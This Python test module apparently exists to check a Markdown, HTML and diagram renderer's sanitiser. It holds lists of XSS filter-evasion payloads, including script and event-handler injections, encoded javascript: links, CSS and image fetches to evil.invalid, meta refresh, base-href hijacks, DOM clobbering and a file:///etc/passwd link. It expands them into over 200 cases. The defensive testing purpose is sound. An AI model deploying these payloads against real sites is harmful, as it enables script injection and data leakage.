"""Texts that try to run a script or to fetch from elsewhere, after OWASP's XSS filter evasion cheat
sheet and the habits of Markdown renderers. Each would set `window.pwned` or ask `evil.invalid`.
"""

HTML = r'''
<script>window.pwned=1</script>
<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>
<script/x>window.pwned=1</script>
<scr<script>ipt>window.pwned=1</scr</script>ipt>
<img src=x onerror=window.pwned=1>
<img src="x" onerror="window.pwned=1">
<img src=`x` onerror=window.pwned=1>
<IMG """><SCRIPT>window.pwned=1</SCRIPT>"\>
<img src=http://evil.invalid/a.png>
<img srcset="http://evil.invalid/b.png 2x">
<image href=http://evil.invalid/c.png>
<picture><source srcset=http://evil.invalid/d.png><img></picture>
<svg onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>
<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>
<svg><use href="http://evil.invalid/s.svg#x"/></svg>
<svg><style>@import 'http://evil.invalid/e.css';</style></svg>
<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1></style></mglyph></table></mtext></math>
<math href="javascript:window.pwned=1">x</math>
<iframe src="javascript:window.pwned=1"></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<iframe src=http://evil.invalid/></iframe>
<object data="javascript:window.pwned=1"></object>
<embed src="http://evil.invalid/f.swf">
<body onload=window.pwned=1>
<input autofocus onfocus=window.pwned=1>
<select autofocus onfocus=window.pwned=1>
<textarea autofocus onfocus=window.pwned=1>
<details open ontoggle=window.pwned=1>
<video src=http://evil.invalid/v.mp4 onloadstart=window.pwned=1>
<video><source onerror=window.pwned=1></video>
<audio src=x onerror=window.pwned=1>
<marquee onstart=window.pwned=1>x</marquee>
<link rel=stylesheet href=http://evil.invalid/g.css>
<style>@import url(http://evil.invalid/h.css);</style>
<style>*{background:url(http://evil.invalid/i.png)}</style>
<div style="background:url(http://evil.invalid/j.png)">x</div>
<p style="width:expression(window.pwned=1)">x</p>
<meta http-equiv=refresh content="0;url=http://evil.invalid/">
<base href="http://evil.invalid/">
<form action="javascript:window.pwned=1"><button autofocus>x</button></form>
<button formaction="javascript:window.pwned=1">x</button>
<a href="javascript:window.pwned=1">x</a>
<a href="jav&#x09;ascript:window.pwned=1">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1">x</a>
<a href=" javascript:window.pwned=1">x</a>
<a href="data:text/html,<script>opener.pwned=1</script>">x</a>
<a href="vbscript:x">x</a>
<a href=x onmouseover=window.pwned=1>x</a>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
<template><script>window.pwned=1</script></template>
<title><img src=x onerror=window.pwned=1></title>
<!--><img src=x onerror=window.pwned=1>-->
<![CDATA[<img src=x onerror=window.pwned=1>]]>
<xmp><img src=x onerror=window.pwned=1></xmp>
"><img src=x onerror=window.pwned=1>
'><svg onload=window.pwned=1>
</textarea><script>window.pwned=1</script>
</title><script>window.pwned=1</script>
javascript:window.pwned=1
${window.pwned=1}
{{constructor.constructor('window.pwned=1')()}}
<x onclick=window.pwned=1 id=turns name=body>x</x>
<img name=getElementById><form name=body><input name=cookie></form>
'''
LINKS = r"""
javascript:window.pwned=1
JaVaScRiPt:window.pwned=1
javascript&colon;window.pwned=1
java&#10;script:window.pwned=1
data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==
vbscript:msgbox(1)
file:///etc/passwd
blob:http://evil.invalid/1
//evil.invalid/x
/v1/models
https://evil.invalid/" onmouseover="window.pwned=1
<javascript:window.pwned=1>
x "onerror=window.pwned=1
"""
MARKDOWN = r"""
[x]: javascript:window.pwned=1
[1]: http://evil.invalid/
<javascript:window.pwned=1>
<https://evil.invalid/"onmouseover="window.pwned=1>
http://evil.invalid/<img src=x onerror=window.pwned=1>
`<img src=x onerror=window.pwned=1>`
```"><img src=x onerror=window.pwned=1>
```html onload=window.pwned=1
| <img src=x onerror=window.pwned=1> | <svg onload=window.pwned=1> |
[^<img src=x onerror=window.pwned=1>]: <svg onload=window.pwned=1>
$\href{javascript:window.pwned=1}{x}$
$\url{javascript:window.pwned=1}$
$\includegraphics{http://evil.invalid/k.png}$
$\htmlStyle{background:url(http://evil.invalid/l.png)}{x}$
$\htmlData{x=y}{<img src=x onerror=window.pwned=1>}$
$\unicode{<img src=x onerror=window.pwned=1>}$
$$\def\x{\x\x}\x$$
- [ ] <img src=x onerror=window.pwned=1>
# <img src=x onerror=window.pwned=1>
> <svg onload=window.pwned=1>
[<img src=x onerror=window.pwned=1>](https://example.org)
![<img src=x onerror=window.pwned=1>](http://evil.invalid/m.png)
[1](javascript:window.pwned=1)
[1]<img src=x onerror=window.pwned=1>
"""
DIAGRAM = """
graph LR; A["<img src=x onerror=parent.pwned=1>"] --> B
graph LR; A --> B; click A "javascript:parent.pwned=1"
graph LR; A --> B; click A call alert(1)
%%{init: {"securityLevel": "loose"}}%%; graph LR; A["<script>parent.pwned=1</script>"]
%%{init: {"themeCSS": "@import url(http://evil.invalid/n.css);"}}%%
graph LR; A@{ img: "http://evil.invalid/o.png" }
not a diagram at all <img src=x onerror=parent.pwned=1>
"""


def lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line]


def attacks() -> list[str]:
    """Return every attack once; more than 200."""
    html, links = lines(HTML), lines(LINKS)
    found = [*html, *(f"**Text** {each} more [1]" for each in html), *lines(MARKDOWN)]
    for link in links:
        found += [f"[x]({link})", f"![x]({link})", f'[x](<{link}> "title")', f"<{link}>"]
    found += [f"```mermaid\n{each.replace('; ', chr(10))}\n```" for each in lines(DIAGRAM)]
    return found
